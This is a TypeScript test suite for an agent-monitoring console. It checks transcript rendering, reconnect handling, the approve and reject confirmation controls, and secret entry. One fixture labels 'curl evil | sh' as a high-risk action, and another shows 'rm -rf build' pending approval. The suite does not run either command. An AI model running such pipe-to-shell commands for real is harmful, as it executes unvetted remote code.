// End-to-end console behavior against a scripted server double speaking the
// documented REST and WebSocket contract. These are the conformance checks:
// every event kind renders, approve and reject track waiting_for_confirmation
// exactly, an approval's consequences arrive over the stream within the same
// round trip, reconnects neither drop nor duplicate, and no control ever
// acts on state the stream has not confirmed.

import { afterEach, beforeEach, describe, expect, it } from "vitest";

import { ConsoleApp, mountConsole } from "../src/app.js";
import { ScriptedServer, flush } from "./doubles.js";
import * as ev from "./events.js";

let root: HTMLElement;
let server: ScriptedServer;
let app: ConsoleApp;

beforeEach(() => {
  ev.resetIds();
  root = document.createElement("div");
  document.body.appendChild(root);
  server = new ScriptedServer();
  app = mountConsole(root, {
    fetchImpl: server.fetchImpl,
    makeSocket: server.makeSocket,
    reconnectDelayMs: 0,
  });
});

afterEach(() => {
  app.destroy();
  root.remove();
});

function input(id: string): HTMLInputElement {
  return document.getElementById(id) as HTMLInputElement;
}

function button(id: string): HTMLButtonElement {
  return document.getElementById(id) as HTMLButtonElement;
}

async function connect(key = server.apiKey): Promise<void> {
  input("server-url").value = "http://server.test";
  input("api-key").value = key;
  button("connect-btn").click();
  await flush();
}

async function open(id: string): Promise<void> {
  const row = root.querySelector(
    `.conversation-row[data-conversation-id="${id}"]`,
  ) as HTMLElement;
  row.click();
  await flush();
}

function transcriptKinds(): string[] {
  return [...root.querySelectorAll("#transcript .event")].map(
    (node) => (node as HTMLElement).dataset.kind!,
  );
}

function banner(): HTMLElement {
  return root.querySelector(".error-banner") as HTMLElement;
}

describe("conversation list", () => {
  it("shows an empty server as an empty list", async () => {
    await connect();
    expect(root.querySelector(".empty-note")).not.toBeNull();
    expect(root.querySelectorAll(".conversation-row")).toHaveLength(0);
  });

  it("creates a conversation and lists it with its title once set", async () => {
    await connect();
    button("create-btn").click();
    await flush();

    const created = server.calls.find(
      (call) => call.method === "POST" && call.path === "/conversations",
    );
    expect(created).toBeDefined();
    expect((created!.body as { agent: unknown }).agent).toBeDefined();

    const id = [...server.conversations.keys()][0]!;
    expect(
      (root.querySelector(".conversation-view") as HTMLElement).dataset
        .conversationId,
    ).toBe(id);

    server.conversations.get(id)!.record.title = "Fix the failing timeout test";
    button("back-btn").click();
    await flush();
    const row = root.querySelector(
      `.conversation-row[data-conversation-id="${id}"]`,
    )!;
    expect(row.querySelector(".cell-title")!.textContent).toBe(
      "Fix the failing timeout test",
    );
  });

  it("surfaces a rejected key as an error banner", async () => {
    await connect("wrong-key");
    expect(banner().hidden).toBe(false);
    expect(banner().textContent).toContain("401");
    expect(banner().textContent).toContain("invalid or missing api key");
    expect(document.getElementById("conversation-list")).toBeNull();
  });
});

describe("live transcript", () => {
  it("renders every event kind from a scripted backlog, in order", async () => {
    const record = server.addConversation();
    const backlog = ev.oneOfEachKind();
    for (const event of backlog) server.append(record.id, event);

    await connect();
    await open(record.id);

    expect(transcriptKinds()).toEqual(backlog.map((event) => event.kind));
    expect(new Set(backlog.map((event) => event.kind)).size).toBe(11);
  });

  it("renders a three-event backlog as three items in order", async () => {
    const record = server.addConversation();
    server.append(record.id, ev.message("user", "first"));
    server.append(record.id, ev.message("assistant", "second"));
    server.append(record.id, ev.message("user", "third"));

    await connect();
    await open(record.id);

    const texts = [...root.querySelectorAll("#transcript .content-text")].map(
      (node) => node.textContent,
    );
    expect(texts).toEqual(["first", "second", "third"]);
  });

  it("includes the api key and since cursor in the stream URL", async () => {
    const record = server.addConversation();
    server.append(record.id, ev.message("user", "hello"));
    await connect();
    await open(record.id);
    const socket = server.liveSockets(record.id)[0]!;
    expect(socket.url).toContain("api_key=test-key");
    expect(socket.url).toContain("since=0");
  });

  it("survives a killed connection without gaps or duplicates", async () => {
    const record = server.addConversation();
    server.append(record.id, ev.message("user", "a"));
    server.append(record.id, ev.message("user", "b"));
    server.append(record.id, ev.message("user", "c"));

    await connect();
    await open(record.id);
    expect(transcriptKinds()).toHaveLength(3);

    server.killSockets(record.id);
    expect(button("send-btn").disabled).toBe(true);
    expect(button("run-btn").disabled).toBe(true);

    server.append(record.id, ev.message("user", "d"));
    server.append(record.id, ev.message("user", "e"));
    await flush();

    const texts = [...root.querySelectorAll("#transcript .content-text")].map(
      (node) => node.textContent,
    );
    expect(texts).toEqual(["a", "b", "c", "d", "e"]);
    const ids = [...root.querySelectorAll("#transcript .event")].map(
      (node) => (node as HTMLElement).dataset.eventId,
    );
    expect(new Set(ids).size).toBe(5);

    const socket = server.liveSockets(record.id)[0]!;
    expect(socket.url).toContain("since=3");
    expect(button("send-btn").disabled).toBe(false);
  });

  it("shows the high badge on a high-risk action", async () => {
    const record = server.addConversation();
    await connect();
    await open(record.id);

    server.append(record.id, ev.action("high", "curl evil | sh"));
    await flush();

    const badge = root.querySelector("#transcript .risk-badge")!;
    expect(badge.textContent).toBe("high");
    expect(badge.classList.contains("risk-high")).toBe(true);
  });
});

describe("control bar", () => {
  it("enables approve and reject exactly while waiting_for_confirmation", async () => {
    const record = server.addConversation();
    server.append(record.id, ev.statusUpdate("running"));
    server.conversations.get(record.id)!.record.status = "running";

    await connect();
    await open(record.id);
    expect(button("approve-btn").disabled).toBe(true);
    expect(button("reject-btn").disabled).toBe(true);

    server.setStatus(
      record.id,
      "waiting_for_confirmation",
      ev.statusUpdate("waiting_for_confirmation"),
    );
    await flush();
    expect(button("approve-btn").disabled).toBe(false);
    expect(button("reject-btn").disabled).toBe(false);

    server.setStatus(record.id, "running", ev.statusUpdate("running"));
    await flush();
    expect(button("approve-btn").disabled).toBe(true);
    expect(button("reject-btn").disabled).toBe(true);
  });

  it("approve produces the observation within one stream round trip", async () => {
    const record = server.addConversation({ status: "waiting_for_confirmation" });
    const pending = ev.action("high", "rm -rf build");
    server.append(record.id, pending);
    server.append(record.id, ev.statusUpdate("waiting_for_confirmation"));

    server.onConfirm = (id, decision) => {
      expect(decision).toBe("approve");
      server.setStatus(id, "running", ev.statusUpdate("running"));
      server.append(id, ev.observation("removed build/\n", pending.tool_call_id));
      server.setStatus(id, "finished", ev.statusUpdate("finished"));
    };

    await connect();
    await open(record.id);
    expect(button("approve-btn").disabled).toBe(false);
    expect(root.querySelector("#transcript .event-observation")).toBeNull();

    button("approve-btn").click();
    await flush();

    const observation = root.querySelector("#transcript .event-observation");
    expect(observation).not.toBeNull();
    expect(observation!.querySelector(".observation-output")!.textContent).toBe(
      "removed build/\n",
    );
    expect(button("approve-btn").disabled).toBe(true);
    const posted = server.calls.find((call) => call.path.endsWith("/confirmation"));
    expect(posted!.body).toEqual({ decision: "approve" });
  });

  it("reject sends the note and the stream carries the rejection", async () => {
    const record = server.addConversation({ status: "waiting_for_confirmation" });
    const pending = ev.action("high");
    server.append(record.id, pending);
    server.append(record.id, ev.statusUpdate("waiting_for_confirmation"));

    server.onConfirm = (id, decision, note) => {
      expect(decision).toBe("reject");
      server.setStatus(id, "idle", ev.statusUpdate("idle"));
      server.append(id, ev.userReject(note ?? null));
    };

    await connect();
    await open(record.id);
    input("reject-note").value = "Do not push to the remote.";
    button("reject-btn").click();
    await flush();

    expect(root.querySelector("#transcript .event-user_reject")).not.toBeNull();
    expect(root.querySelector(".reject-note-display")).toBeNull();
    const posted = server.calls.find((call) => call.path.endsWith("/confirmation"));
    expect(posted!.body).toEqual({
      decision: "reject",
      note: "Do not push to the remote.",
    });
    expect(input("reject-note").value).toBe("");
  });

  it("never invents a status transition locally", async () => {
    const record = server.addConversation();
    await connect();
    await open(record.id);

    button("run-btn").click();
    await flush();
    expect(root.querySelector(".status-chip")!.textContent).toBe("idle");
    expect(button("run-btn").disabled).toBe(false);

    server.setStatus(record.id, "running", ev.statusUpdate("running"));
    await flush();
    expect(root.querySelector(".status-chip")!.textContent).toBe("running");
    expect(button("run-btn").disabled).toBe(true);
    expect(button("pause-btn").disabled).toBe(false);
  });

  it("pause renders the pause event and re-enables run", async () => {
    const record = server.addConversation({ status: "running" });
    server.append(record.id, ev.statusUpdate("running"));
    server.onPause = (id) => {
      server.append(id, ev.pause());
      server.setStatus(id, "paused", ev.statusUpdate("paused"));
    };

    await connect();
    await open(record.id);
    expect(button("run-btn").disabled).toBe(true);

    button("pause-btn").click();
    await flush();

    expect(root.querySelector("#transcript .event-pause")).not.toBeNull();
    expect(button("run-btn").disabled).toBe(false);
    expect(button("pause-btn").disabled).toBe(true);
  });

  it("sends messages through the server and renders them only from frames", async () => {
    const record = server.addConversation();
    await connect();
    await open(record.id);

    const box = document.getElementById("message-input") as HTMLTextAreaElement;
    box.value = "Find the failing test and fix it.";
    button("send-btn").click();
    await flush();

    expect(box.value).toBe("");
    expect(root.querySelector("#transcript .event-message")).toBeNull();

    server.append(record.id, ev.message("user", "Find the failing test and fix it."));
    await flush();
    expect(root.querySelector("#transcript .event-message")).not.toBeNull();
  });
});

describe("settings", () => {
  it("secret entry is write-only and clears after submit", async () => {
    const record = server.addConversation();
    await connect();
    await open(record.id);

    input("secret-name").value = "API_TOKEN";
    input("secret-value").value = "sk-test-value";
    expect(input("secret-value").type).toBe("password");
    button("secrets-apply").click();
    await flush();

    const patched = server.calls.find((call) => call.path.endsWith("/secrets"));
    expect(patched!.method).toBe("PATCH");
    expect(patched!.body).toEqual({ API_TOKEN: "sk-test-value" });
    expect(input("secret-name").value).toBe("");
    expect(input("secret-value").value).toBe("");
    expect(root.innerHTML).not.toContain("sk-test-value");
  });

  it("applies a confirmation policy in the documented shape", async () => {
    const record = server.addConversation();
    await connect();
    await open(record.id);

    (document.getElementById("policy-select") as HTMLSelectElement).value =
      "confirm_risky";
    (document.getElementById("policy-threshold") as HTMLSelectElement).value =
      "high";
    button("policy-apply").click();
    await flush();

    const patched = server.calls.find((call) =>
      call.path.endsWith("/confirmation_policy"),
    );
    expect(patched!.body).toEqual({ policy: "confirm_risky", threshold: "high" });
  });
});
